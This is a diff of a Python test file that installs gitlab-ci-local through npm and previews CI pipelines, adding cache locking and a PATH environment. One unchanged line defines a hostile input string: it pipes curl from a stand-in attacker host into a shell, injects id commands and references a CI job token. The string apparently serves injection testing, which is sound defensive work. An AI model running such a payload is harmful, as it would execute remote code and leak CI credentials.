@@ -15,6 +15,7 @@ from typing import Any
 import pytest
 import yaml
 
+from local_kubernetes.storage import get_cache_directory, locked
 from tests.support.checkout import ROOT
 
 HERE = Path(__file__).parent
@@ -25,23 +26,26 @@ INPUTS: dict[str, Any] = {
     "tags": ["lab"],
 }
 HOSTILE = 'x"; curl evil.example.org | sh; $(id) `id` $CI_JOB_TOKEN'
+ENVIRONMENT = os.environ | {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
+"""Finds the programs of our packages first."""
 Preview = Callable[..., subprocess.CompletedProcess[str]]
 
 
 @pytest.fixture(scope="session")
 def reader() -> Path:
-    """Install gitlab-ci-local by the lock file beside this test, once for each."""
+    """Install gitlab-ci-local by the lock file beside this test, once for each; Node.js is one of our packages."""
     digest = hashlib.sha256((HERE / "package-lock.json").read_bytes()).hexdigest()[:12]
-    cache = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache") / "bessemer" / f"gitlab-ci-local-{digest}"
+    cache = get_cache_directory() / f"gitlab-ci-local-{digest}"
     program = cache / "node_modules" / ".bin" / "gitlab-ci-local"
-    if not program.exists():
-        cache.parent.mkdir(parents=True, exist_ok=True)
-        with tempfile.TemporaryDirectory(dir=cache.parent) as folder:
-            for name in ("package.json", "package-lock.json"):
-                shutil.copy(HERE / name, folder)
-            subprocess.run(["npm", "ci", "--ignore-scripts", "--no-audit", "--no-fund"], cwd=folder, check=True)
-            shutil.rmtree(cache, ignore_errors=True)
-            shutil.copytree(folder, cache, symlinks=True)
+    with locked(cache.with_suffix(".lock")):
+        if not program.exists():
+            with tempfile.TemporaryDirectory(dir=cache.parent) as folder:
+                for name in ("package.json", "package-lock.json"):
+                    shutil.copy(HERE / name, folder)
+                npm = ["npm", "ci", "--ignore-scripts", "--no-audit", "--no-fund"]
+                subprocess.run(npm, cwd=folder, check=True, env=ENVIRONMENT)
+                shutil.rmtree(cache, ignore_errors=True)
+                shutil.copytree(folder, cache, symlinks=True)
     return program
 
 
@@ -64,7 +68,13 @@ def preview(reader: Path, tmp_path: Path) -> Preview:
         ):
             subprocess.run(["git", *command], cwd=repository, check=True)
         return subprocess.run(
-            [reader, "--preview"], cwd=repository, capture_output=True, text=True, check=False, timeout=120
+            [reader, "--preview"],
+            cwd=repository,
+            capture_output=True,
+            text=True,
+            check=False,
+            timeout=120,
+            env=ENVIRONMENT,
         )
 
     return run
